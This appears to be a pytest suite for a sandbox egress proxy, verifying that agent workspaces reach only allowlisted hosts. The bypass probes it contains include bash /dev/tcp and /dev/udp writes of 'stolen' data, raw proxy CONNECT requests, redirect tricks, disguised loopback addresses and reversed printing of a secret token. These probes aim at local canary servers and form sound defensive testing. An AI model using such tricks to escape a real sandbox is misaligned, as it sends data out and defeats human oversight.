"""A workspace's way out, from inside: programs of a real sandbox, real servers, bytes counted where they arrive."""

import json
import os
import shlex
import shutil
import socket
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.workspaces.egress.grounds import HOST_LOOPBACK, OPEN, read_request

TRIES = Path(__file__).with_name("tries.py")


def rows(desk, key, name, *, total=1, **like):
    """The rows of the network page's API that fit, once so many tries are counted (each second they are written)."""
    deadline = time.monotonic() + 10
    while True:
        found = desk.get(f"/workspaces/{key}/network").json[name]
        found = [row for row in found if all(row[field] == value for field, value in like.items())]
        if sum(row["count"] for row in found) >= total or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def fetch(host, port, *, more="") -> str:
    return f"curl -sS -m 20 {more} http://{host}:{port}/x"


def token_in(desk, key) -> str:
    """HANDRAIL_TOKEN as programs have it; backwards, because what they print is searched for it."""
    return desk.run(key, "python3 -c \"import os; print(os.environ['HANDRAIL_TOKEN'][::-1])\"").decode().strip()[::-1]


# It works ------------------------------------------------------------------------------------------------------------


def test_a_listed_host_is_reached_and_counted_and_others_are_not(agent, workspace, serve, name_for):
    server, canary = serve(), serve()
    good, bad = name_for("good"), name_for("bad")
    key = workspace(agent=[f"{good}:{server.port}"])
    said = agent.run(key, f"{fetch(good, server.port)}; {fetch(bad, canary.port)}; {fetch(bad, canary.port)}")
    assert said.startswith(b"hello")
    assert said.count(b"not an allowed host") == 2
    assert (canary.connections, bytes(canary.got)) == (0, b"")
    [held] = rows(agent, key, "blocked", total=2, host=bad)
    assert (held["count"], held["code"], held["why"]) == (2, "not_listed", "not an allowed host")
    [out] = rows(agent, key, "allowed", host=good)
    assert (out["count"], out["port"], out["method"], out["phase"]) == (1, server.port, "GET", "agent")


def test_git_and_tls_go_through_by_themselves(agent, workspace, serve, name_for, tls_for, product):
    """git, curl and Python find the proxy in their environment; 5 MB come back byte for byte over TLS."""
    name = name_for("tls")
    context, trusted = tls_for(name)
    body = os.urandom(5 << 20)

    def talk(sock, got):
        read_request(sock, got)
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    server = serve(talk=talk, tls=context)
    key = workspace(agent=[f"{name}:{server.port}"])
    agent.call("PUT", f"/workspaces/{key}/files/trusted.crt", trusted.read_bytes(), expect=201)
    python = (
        "import urllib.request, ssl, sys; c = ssl.create_default_context(cafile='trusted.crt'); "
        f"sys.stdout.buffer.write(urllib.request.urlopen('https://{name}:{server.port}/', context=c).read())"
    )
    assert agent.run(key, f"python3 -c {shlex.quote(python)}") == body
    assert agent.run(key, f"curl -sS --cacert trusted.crt https://{name}:{server.port}/") == body
    said = agent.run(key, f"git -c http.sslCAInfo=trusted.crt ls-remote https://{name}:{server.port}/r 2>&1", 128)
    assert b"CONNECT" not in said  # the tunnel was opened; what answered is no repository
    assert bytes(server.got).count(b"GET /") == 3


def test_the_setup_has_a_list_of_its_own(agent, workspace, serve, name_for):
    server = serve()
    first, second = name_for("first"), name_for("second")
    port = server.port
    script = f"({fetch(first, port)}; {fetch(second, port)}) > said"
    key = workspace(script, setup=[f"{first}:{port}"], agent=[f"{second}:{port}"])
    said = agent.run(key, f"cat said; {fetch(first, port)}; {fetch(second, port)}")
    assert (said.count(b"hello"), said.count(b"Blocked by Handrail")) == (2, 2)
    assert [row["host"] for row in rows(agent, key, "blocked", phase="setup")] == [second]
    assert [row["host"] for row in rows(agent, key, "blocked", phase="agent")] == [first]


def test_handrail_answers_inside_and_to_its_own_token_only(agent, workspace, product):
    key = workspace()
    me = agent.run(key, 'curl -sS -H "Authorization: Bearer $HANDRAIL_TOKEN" $HANDRAIL_URL/api/v1/me')
    assert json.loads(me)["name"] == "egress-tests"
    code = "curl -sS -o /dev/null -w '%{http_code} '"
    said = agent.run(key, f"for page in / /accounts/login/ /admin/ /healthz; do {code} $HANDRAIL_URL$page; done")
    assert said.split() == [b"404"] * 4
    stolen = product.person_token("somebody", "admin")
    assert agent.run(key, f'{code} -H "Authorization: Bearer {stolen}" $HANDRAIL_URL/api/v1/me').strip() == b"401"
    assert product.get("/api/v1/me", stolen).status == 200


def test_the_token_ends_with_the_run(agent, workspace, product):
    key = workspace()
    token = token_in(agent, key)
    assert product.get(f"/api/v1/workspaces/{key}", token).status == 200
    agent.post(f"/workspaces/{key}/stop", expect=202)
    assert agent.settled(key)["state"] == "stopped"
    assert product.get(f"/api/v1/workspaces/{key}", token).status == 401
    agent.post(f"/workspaces/{key}/resume", expect=202)
    agent.settled(key)
    again = token_in(agent, key)
    assert again != token
    assert product.get("/api/v1/workspaces", again).json["workspaces"][0]["key"] == key


# Nothing else does ---------------------------------------------------------------------------------------------------


class Unheard:
    """UDP and abstract unix sockets of this host that count what they get."""

    def __init__(self, *addresses):
        self.udp = [self._bound(address) for address in addresses]
        self.name = f"canary-{uuid.uuid4().hex}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.name)
        self.abstract.listen()
        self.abstract.setblocking(False)

    def _bound(self, address):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((address, 0))
        sock.setblocking(False)
        return sock

    def heard(self) -> int:
        count = 0
        for sock in self.udp:
            try:
                count += len(sock.recv(4096))
            except BlockingIOError:
                pass
        try:
            self.abstract.accept()
            count += 1
        except BlockingIOError:
            pass
        return count

    def close(self):
        for sock in (*self.udp, self.abstract):
            sock.close()


def own_address() -> str:
    """An address of this host on a real network, or its loopback's where it has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.1", 9))
            return sock.getsockname()[0]
        except OSError:
            return HOST_LOOPBACK


@pytest.mark.parametrize("phase", ["setup", "agent"])
def test_nothing_else_brings_a_single_byte(agent, workspace, serve, name_for, tls_for, phase):
    here = own_address()
    canaries = [serve(address) for address in dict.fromkeys((HOST_LOOPBACK, OPEN, here))]
    unheard = Unheard(HOST_LOOPBACK, OPEN, here)
    inward, outside = name_for("inward", HOST_LOOPBACK), name_for("outside")
    tls_name, redirects = name_for("tls"), name_for("redirects")
    tls = serve(tls=tls_for(tls_name)[0])

    def redirect(sock, got):
        read_request(sock, got)
        to = f"http://{outside}:{canaries[1].port}/stolen"
        sock.sendall(f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n".encode())

    redirecting = serve(talk=redirect)
    told = {
        "tcp": [(one.address, one.port) for one in canaries],
        "udp": [sock.getsockname() for sock in unheard.udp] + [(here, 53), ("8.8.8.8", 53)],
        "abstract": [unheard.name],
        "names": [(inward, canaries[0].port), (outside, canaries[1].port)],
        "sni": [(tls_name, tls.port)],
        "redirects": [f"http://{redirects}:{redirecting.port}/"],
    }
    # The name that leads to this host's loopback is even on the list.
    hosts = [f"{inward}:{canaries[0].port}", f"{tls_name}:{tls.port}", f"{redirects}:{redirecting.port}"]
    command = f"python3 - {shlex.quote(json.dumps(told))} > said <<'END'\n{TRIES.read_text()}\nEND\n"
    try:
        if phase == "setup":
            key = workspace(command, setup=hosts)
        else:
            key = workspace(agent=hosts)
            agent.run(key, command)
        said = agent.get(f"/workspaces/{key}/files/said").json
        assert [(one.connections, bytes(one.got)) for one in canaries] == [(0, b"")] * len(canaries)
        assert unheard.heard() == 0
    finally:
        unheard.close()
    assert bytes(tls.got) == b""
    assert redirecting.connections == 1
    assert [name for name, came in said.items() if "200 OK" in came or "hello" in came] == []
    # Of each canary five, of the names three and four, and the wrong TLS hello.
    total = 5 * len(canaries) + 3 + 4 + 1
    held = {(row["host"], row["method"]): row for row in rows(agent, key, "blocked", phase=phase, total=total)}
    for one in canaries:
        assert (f"{one.address}:{one.port}", "CONNECT") in held, "a proxied attempt is missing in the log"
        assert (f"{one.address}:{one.port}", "GET") in held
    assert held[inward, "GET"]["why"] == "the name leads to a private or special address"
    assert (held[inward, "GET"]["count"], held[inward, "CONNECT"]["count"]) == (2, 1)
    # Once by itself, once by curl, and once more because a redirect led there.
    assert (held[outside, "GET"]["count"], held[outside, "CONNECT"]["count"]) == (3, 1)
    assert "names another host" in held[tls_name, "CONNECT"]["why"]


@pytest.mark.parametrize("phase", ["setup", "agent"])
@pytest.mark.parametrize("driver", ["sandbox", "docker"])
def test_with_nothing_but_bash_no_byte_gets_out_either(agent, workspace, serve, name_for, driver, phase):
    """The same in each kind of workspace, for images that have little in them."""
    here = own_address()
    server, canaries = serve(), [serve(address) for address in dict.fromkeys((HOST_LOOPBACK, OPEN, here))]
    unheard = Unheard(HOST_LOOPBACK, OPEN, here)
    good, inward, outside = name_for("good"), name_for("inward", HOST_LOOPBACK), name_for("outside")
    hosts = [f"{good}:{server.port}", f"{inward}:{canaries[0].port}"]
    targets = [(one.address, one.port) for one in canaries] + [(f"[::ffff:{OPEN}]", canaries[1].port)]
    targets += [("0x7f4d0001", canaries[1].port), (inward, canaries[0].port), (outside, canaries[1].port)]
    lines = ['ask() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; cat <&3; exec 3>&-; }']
    for host, port in targets:
        lines.append(f"ask 'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n'")
        lines.append(f"ask 'GET http://{host}:{port}/stolen HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'")
        lines.append(f"timeout 2 bash -c 'echo stolen > /dev/tcp/{host}/{port}' 2>&1")
    lines += [f"echo stolen > /dev/udp/{address}/{port}" for address, port in (u.getsockname() for u in unheard.udp)]
    lines.append(f"ask 'GET http://{good}:{server.port}/ HTTP/1.1\\r\\nHost: {good}:{server.port}\\r\\n\\r\\n'")
    script = "{\n" + "\n".join(lines) + "\n} > said 2>&1 || true"
    try:
        if phase == "setup":
            key = workspace(f"set +e\n{script}", driver=driver, setup=hosts)
        else:
            key = workspace(driver=driver, agent=hosts)
            agent.run(key, script)
        said = agent.get(f"/workspaces/{key}/files/said").body
        assert [(one.connections, bytes(one.got)) for one in canaries] == [(0, b"")] * len(canaries)
        assert unheard.heard() == 0
    finally:
        unheard.close()
    assert (said.count(b"200 OK"), said.count(b"Blocked by Handrail")) == (1, 2 * len(targets))
    assert len(rows(agent, key, "blocked", phase=phase, total=2 * len(targets))) == 2 * len(targets)


def test_a_server_in_another_network_namespace_hears_nothing(agent, workspace, name_for, require):
    """Reached from this host by a route of its own, so that only the proxy's rules stand between it and a workspace."""
    if os.geteuid() != 0 or not shutil.which("ip"):
        require("netns", "only root with iproute2 can make a network namespace")
    tag = uuid.uuid4().hex[:6]
    commands = (
        f"ip netns add hr{tag} && ip link add hra{tag} type veth peer name hrb{tag} netns hr{tag} && "
        f"ip addr add 10.213.7.1/30 dev hra{tag} && ip link set hra{tag} up && "
        f"ip -n hr{tag} addr add 10.213.7.2/30 dev hrb{tag} && ip -n hr{tag} link set hrb{tag} up"
    )
    made = subprocess.run(["bash", "-c", commands], capture_output=True, text=True)
    try:
        if made.returncode:
            require("netns", f"no network namespace can be made here: {made.stderr.strip()[-200:]}")
        script = (
            "import socket, sys\ns = socket.create_server(('10.213.7.2', 8123))\nprint('up', flush=True)\n"
            "while True:\n c = s.accept()[0]\n c.settimeout(2)\n"
            " print(len(c.recv(100)), flush=True)\n c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nhello')\n c.close()\n"
        )
        server = subprocess.Popen(
            ["ip", "netns", "exec", f"hr{tag}", "python3", "-c", script], stdout=subprocess.PIPE, text=True
        )
        try:
            assert server.stdout.readline() == "up\n"
            with socket.create_connection(("10.213.7.2", 8123), timeout=5) as sock:
                sock.sendall(b"from this host")
            assert server.stdout.readline() == "14\n"
            name = name_for("inner", "10.213.7.2")
            key = workspace(agent=[f"{name}:8123"])
            tries = [
                fetch(name, 8123),
                fetch("10.213.7.2", 8123),
                "curl --noproxy '*' -sS -m 2 http://10.213.7.2:8123/",
                "echo stolen > /dev/tcp/10.213.7.2/8123",
                "echo stolen > /dev/udp/10.213.7.2/8123",
            ]
            said = agent.run(key, "; ".join(tries) + " ; true")
            assert b"hello" not in said
            assert b"private or special address" in said
            with socket.create_connection(("10.213.7.2", 8123), timeout=5) as sock:
                sock.sendall(b"last")
            assert server.stdout.readline() == "4\n"  # nothing came between the two of this host
        finally:
            server.kill()
            server.wait()
            server.stdout.close()
    finally:
        subprocess.run(["ip", "netns", "del", f"hr{tag}"], capture_output=True)
        subprocess.run(["ip", "link", "del", f"hra{tag}"], capture_output=True)


def test_a_thousand_blocked_tries_are_one_row_with_a_true_count(agent, workspace):
    key, host = workspace(), f"flood-{uuid.uuid4().hex[:8]}.test"
    script = (
        "import socket\nfor n in range(1000):\n s = socket.create_connection(('127.0.0.1', 3128))\n"
        f" s.sendall(b'CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n')\n s.recv(100)\n s.close()\n"
    )
    agent.run(key, f"python3 -c {shlex.quote(script)}")
    held = rows(agent, key, "blocked", total=1000)
    assert [(row["host"], row["count"]) for row in held] == [(host, 1000)]
